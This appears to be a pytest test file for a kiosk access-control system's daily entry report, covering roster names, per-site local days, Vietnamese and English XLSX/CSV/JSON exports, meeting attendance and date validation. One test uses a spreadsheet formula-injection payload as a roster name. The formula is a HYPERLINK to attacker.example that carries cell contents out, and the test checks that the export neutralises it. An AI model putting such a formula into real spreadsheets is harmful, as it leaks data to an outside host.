"""The daily entry list at central: rows and summary from events and the roster (pure), the
site's local day, the XLSX/CSV/JSON files through ``kiosk central report daily`` and a
meeting's attendance with names, on real SQLite files and the local PostgreSQL."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, date, datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from click.testing import CliRunner, Result
from openpyxl import load_workbook

from kiosk.central import Store
from kiosk.central.reports.daily import DailyList, Decided, day_bounds, entry_rows, summarise
from kiosk.central.reports.export import render
from kiosk.central.roster import Person
from kiosk.central.settings import ReportFormat
from kiosk.cli.main import cli
from tests.central_reports_support import (
    DUC,
    GUEST,
    HANG,
    ZONE,
    a_day,
    decision,
    local_ms,
    name_people,
    store_events,
)
from tests.central_support import SITE

pytest_plugins = ("tests.central_fixtures",)

DAY = date(2026, 12, 6)
VI_HEADER = [
    "Thời gian",
    "Địa điểm",
    "Lối vào",
    "Khu vực",
    "Họ tên",
    "Đơn vị",
    "Đối tượng",
    "Kết quả",
    "Lý do",
    "Nhiệt độ (°C)",
]


@pytest.fixture
def config(tmp_path: Path) -> Path:
    path = tmp_path / "central.toml"
    path.write_text(
        f'[sites.{SITE}]\nname = "Trụ sở"\ntimezone = "Asia/Ho_Chi_Minh"\n', encoding="utf-8"
    )
    return path


@pytest.fixture
def named_day(store: Store) -> Store:
    """The store with :func:`a_day` at the site and the roster naming Hằng and Đức."""
    a_day(store, SITE, DAY)
    name_people(store, SITE)
    return store


def central(config: Path, db_url: str, *args: str) -> Result:
    return CliRunner().invoke(cli, ["central", "--config", str(config), *args, "--db", db_url])


def test_rows_name_people_from_the_roster_and_the_summary_counts_the_day() -> None:
    people = {HANG: Person("Nguyễn Thị Hằng", "Phòng Kế toán", "staff")}
    events = [
        Decided(local_ms(DAY, 8, 0), "gate-1", decision()),
        Decided(local_ms(DAY, 8, 1), "gate-1", decision(subject=GUEST, kind="visitor")),
        Decided(local_ms(DAY, 8, 2), "gate-1", decision("deny", "fever", GUEST, celsius=38.2)),
        Decided(local_ms(DAY, 8, 3), "gate-1", decision("deny", "revoked", DUC, celsius=None)),
        Decided(local_ms(DAY, 8, 4), "gate-1", decision("refer", "sensor_fault", HANG)),
        Decided(local_ms(DAY, 9, 0), "gate-1", decision(direction="exit")),
        Decided(local_ms(DAY, 9, 1), "desk", decision(mode="checkin", meeting="Giao ban")),
        Decided(local_ms(DAY, 9, 2), "gate-1", decision()),
    ]
    rows = entry_rows(events, people, ZONE, SITE, "Trụ sở")
    assert [(r.local_time.strftime("%H:%M"), r.name, r.subject) for r in rows] == [
        ("08:00", "Nguyễn Thị Hằng", HANG),
        ("08:01", None, GUEST),
        ("08:02", None, GUEST),
        ("08:03", None, DUC),
        ("08:04", "Nguyễn Thị Hằng", HANG),
        ("09:02", "Nguyễn Thị Hằng", HANG),
    ]  # the exit and the meeting check-in are not entries
    first, guest, fever = rows[:3]
    assert (first.site_name, first.unit, first.kind, first.celsius) == (
        "Trụ sở",
        "Phòng Kế toán",
        "staff",
        36.6,
    )
    assert (guest.unit, guest.kind) == (None, "visitor")  # the credential's kind
    assert (fever.outcome, fever.reason, fever.celsius) == ("deny", "fever", 38.2)
    summary = summarise(rows)
    assert (summary.decisions, summary.entries, summary.people) == (6, 3, 2)
    assert summary.denials == {"fever": 1, "revoked": 1}
    assert (summary.fevers, summary.referrals) == (1, 1)


@pytest.mark.parametrize(
    ("zone", "day", "hours"),
    [
        ("Asia/Ho_Chi_Minh", date(2026, 12, 6), 24),
        ("Europe/Berlin", date(2026, 3, 29), 23),  # clocks go forward
        ("Europe/Berlin", date(2026, 10, 25), 25),  # and back
        ("America/Santiago", date(2026, 9, 6), 23),  # the change is at midnight itself
    ],
)
def test_a_day_is_the_sites_local_day(zone: str, day: date, hours: int) -> None:
    start, end = day_bounds(day, ZoneInfo(zone))
    assert (end - start) == hours * 3_600_000
    assert datetime.fromtimestamp(start / 1000, ZoneInfo(zone)).date() == day
    assert datetime.fromtimestamp((end - 1) / 1000, ZoneInfo(zone)).date() == day
    assert day_bounds(date.fromordinal(day.toordinal() + 1), ZoneInfo(zone))[0] == end


def test_the_xlsx_list_has_the_local_days_rows_with_names_and_a_summary_sheet(
    tmp_path: Path, config: Path, db_url: str, named_day: Store
) -> None:
    out = tmp_path / "list.xlsx"
    result = central(config, db_url, "report", "daily", "--date", "2026-12-06", "-o", str(out))
    assert result.exit_code == 0, result.output
    assert f"{out}: 8 rows" in result.output and "Lượt được vào: 4" in result.output
    book = load_workbook(out)
    sheet = book["Danh sách"]
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["E"].width == pytest.approx(28, abs=1)  # plus cell padding
    assert all(cell.font.bold for cell in sheet[1])
    assert book.worksheets[1]["A1"].font.bold
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values[0] == VI_HEADER
    assert [(r[0].strftime("%H:%M:%S"), r[2], r[4], r[7]) for r in values[1:]] == [
        ("00:00:00", "gate-1", "Nguyễn Thị Hằng", "cho vào"),
        ("08:01:05", "gate-1", "Trần Văn Đức", "từ chối"),
        ("08:03:00", "gate-1", "Trần Văn Đức", "cho vào"),
        ("09:00:00", "gate-1", None, "từ chối"),  # nobody identified
        ("12:00:00", "gate-1", GUEST, "cho vào"),
        ("12:00:01", "gate-2", "Nguyễn Thị Hằng", "cho vào"),
        ("13:00:00", "gate-2", GUEST, "từ chối"),
        ("23:59:59", "gate-1", "Nguyễn Thị Hằng", "gặp bảo vệ"),
    ]
    fever = values[2]
    assert fever[0] == datetime(2026, 12, 6, 8, 1, 5)  # a real date-time cell, local
    assert fever[1:] == [
        "Trụ sở",
        "gate-1",
        "main",
        "Trần Văn Đức",
        "Ban Giám đốc",
        "Nhân viên",
        "từ chối",
        "Nhiệt độ cao: vui lòng gặp bảo vệ",
        38.4,
    ]
    assert values[4][8] == "Mã chưa được đăng ký" and values[4][9] is None
    assert values[1][8] is None  # a grant needs no reason
    summary = dict(row for row in book["Tổng hợp"].iter_rows(min_row=2, values_only=True))
    assert summary["Ngày"] == "2026-12-06" and summary["Địa điểm"] == SITE
    assert (summary["Số lượt quét"], summary["Lượt được vào"], summary["Số người được vào"]) == (
        8,
        4,
        3,
    )
    assert (summary["Ca sốt"], summary["Chuyển bảo vệ/lễ tân"]) == (2, 1)
    assert summary["Từ chối: Nhiệt độ cao: vui lòng gặp bảo vệ"] == 2
    assert summary["Từ chối: Mã chưa được đăng ký"] == 1


def test_csv_is_utf8_with_a_bom_and_english_words_when_asked(
    tmp_path: Path, config: Path, db_url: str, named_day: Store
) -> None:
    out = tmp_path / "list.csv"
    args = ["report", "daily", "--date", "2026-12-06", "--site", SITE, "--format", "csv"]
    result = central(config, db_url, *args, "--lang", "en", "-o", str(out))
    assert result.exit_code == 0, result.output
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    table = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert table[0][:5] == ["Time", "Site", "Entrance", "Area", "Name"]
    assert table[2] == [
        "2026-12-06 08:01:05",
        "Trụ sở",
        "gate-1",
        "main",
        "Trần Văn Đức",
        "Ban Giám đốc",
        "Staff",
        "denied",
        "Fever: please see the guard",
        "38.4",
    ]
    assert len(table) == 9 and "Entries granted: 4" in result.output


def test_json_has_the_rows_and_the_summary(config: Path, db_url: str, named_day: Store) -> None:
    args = ["report", "daily", "--date", "2026-12-06", "--format", "json", "-o", "-"]
    result = central(config, db_url, *args)
    assert result.exit_code == 0, result.output
    document = json.loads(result.stdout)
    assert document["day"] == "2026-12-06" and document["sites"] == [SITE]
    assert document["summary"] == {
        "decisions": 8,
        "entries": 4,
        "people": 3,
        "denials": {"fever": 2, "unknown_credential": 1},
        "fevers": 2,
        "referrals": 1,
    }
    first = document["rows"][0]
    assert first["time"] == "2026-12-06T00:00:00+07:00"
    assert (first["name"], first["subject"], first["outcome"]) == ("Nguyễn Thị Hằng", HANG, "grant")
    utc = datetime.fromisoformat(document["rows"][-1]["time"]).astimezone(UTC)
    assert utc == datetime(2026, 12, 6, 16, 59, 59, tzinfo=UTC)


def test_every_known_site_in_its_own_time_zone(tmp_path: Path, db_url: str, store: Store) -> None:
    config = tmp_path / "central.toml"
    config.write_text('[sites.berlin]\ntimezone = "Europe/Berlin"\n', encoding="utf-8")
    a_day(store, SITE, DAY)  # a kiosk's site without a [sites] table: the default zone
    berlin = ZoneInfo("Europe/Berlin")
    store_events(
        store,
        "berlin",
        "tor",
        [
            (local_ms(DAY, 0, 30, zone=berlin), decision()),
            (local_ms(DAY, 23, 30, zone=berlin), decision()),
        ],
    )
    result = central(
        config, db_url, "report", "daily", "--date", "2026-12-06", "--format", "json", "-o", "-"
    )
    assert result.exit_code == 0, result.output
    document = json.loads(result.stdout)
    assert document["sites"] == ["berlin", SITE] and document["summary"]["decisions"] == 10
    berlin_times = [r["time"] for r in document["rows"] if r["site"] == "berlin"]
    assert berlin_times == ["2026-12-06T00:30:00+01:00", "2026-12-06T23:30:00+01:00"]


def test_a_bad_date_an_unknown_site_and_an_unwritable_file_are_refused(
    tmp_path: Path, config: Path, db_url: str, store: Store
) -> None:
    a_day(store, SITE, DAY)
    bad_date = central(config, db_url, "report", "daily", "--date", "2026-13-01")
    assert bad_date.exit_code == 2 and "'2026-13-01' is not a date YYYY-MM-DD" in bad_date.output
    unknown = central(config, db_url, "report", "daily", "--date", "2026-12-06", "--site", "hq")
    assert unknown.exit_code == 64
    assert "unknown site 'hq'" in unknown.output and f"known: {SITE}" in unknown.output
    nowhere = tmp_path / "no-such-folder" / "list.xlsx"
    unwritable = central(
        config, db_url, "report", "daily", "--date", "2026-12-06", "-o", str(nowhere)
    )
    assert unwritable.exit_code == 73 and f"cannot write {nowhere}" in unwritable.output


def test_attendance_names_who_checked_in_once_each_across_the_sites_kiosks(
    config: Path, db_url: str, store: Store
) -> None:
    name_people(store, SITE)

    def checkin(subject: str | None, outcome: str = "grant", meeting: str = "Giao ban") -> dict:
        reason = "checked_in" if outcome == "grant" else "unknown_credential"
        return decision(outcome, reason, subject, celsius=None, mode="checkin", meeting=meeting)

    store_events(
        store,
        SITE,
        "desk-1",
        [
            (local_ms(DAY, 8, 55), checkin(DUC)),
            (local_ms(DAY, 8, 56), checkin(None, "deny")),
            (local_ms(DAY, 8, 57), checkin(GUEST, meeting="Họp khác")),
            (local_ms(DAY, 9, 1), checkin(DUC)),  # again: once is enough
        ],
    )
    store_events(store, SITE, "desk-2", [(local_ms(DAY, 8, 58), checkin(GUEST))])
    result = central(config, db_url, "report", "attendance", "Giao ban")
    assert result.exit_code == 0, result.output
    assert result.output.splitlines() == [
        f"{SITE}\t2026-12-06 08:55:00\tTrần Văn Đức\tBan Giám đốc\tstaff",
        f"{SITE}\t2026-12-06 08:58:00\t{GUEST}\t-\tstaff",
        "2 attended Giao ban",
    ]
    as_json = central(config, db_url, "report", "attendance", "Giao ban", "--site", SITE, "--json")
    first = json.loads(as_json.output.splitlines()[0])
    assert first["name"] == "Trần Văn Đức" and first["first_seen"] == "2026-12-06T08:55:00+07:00"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_roster_name_that_looks_like_a_formula_stays_text(fmt: ReportFormat) -> None:
    formula = '=HYPERLINK("http://attacker.example/?"&A1,"Hằng")'
    people = {HANG: Person(formula, "+1 Phòng", "staff")}
    rows = entry_rows([Decided(local_ms(DAY, 8, 0), "gate-1", decision())], people, ZONE, SITE, "x")
    data = render(DailyList(DAY, (SITE,), rows, summarise(rows)), fmt, "vi")
    if fmt == "csv":
        cells = next(csv.reader(io.StringIO(data.decode("utf-8-sig").splitlines()[1])))
        name, unit = cells[4], cells[5]
    else:
        sheet = load_workbook(io.BytesIO(data)).worksheets[0]
        name_cell, unit_cell = sheet.cell(2, 5), sheet.cell(2, 6)
        assert (name_cell.data_type, unit_cell.data_type) == ("s", "s")  # no formula cell
        name, unit = name_cell.value, unit_cell.value
    assert (name, unit) == ("'" + formula, "'+1 Phòng")


@pytest.mark.parametrize(
    ("args", "named"),
    [
        (["report", "daily", "--date", "9999-12-31"], "--date"),
        (["report", "daily", "--date", "0001-01-01"], "--date"),
        (["report", "deliver", "--date", "9999-12-31"], "--date"),
        (["trace", "--subject", "s-x", "--from", "2026-12-01", "--to", "9999-12-31"], "--to"),
        (
            ["trace", "--subject", "s-x", "--from", "0001-01-01T00:00", "--to", "2026-12-01"],
            "--from",
        ),
    ],
)
def test_dates_outside_1970_to_9998_are_refused_as_usage_errors(
    config: Path, db_url: str, args: list[str], named: str
) -> None:
    if args[0] == "trace":
        args = [*args, "--site", SITE]
    result = central(config, db_url, *args)
    assert result.exit_code == 2, result.output
    assert f"{named} must be from 1970-01-01 to 9998-12-31" in result.output
    assert result.exception is None or isinstance(result.exception, SystemExit)
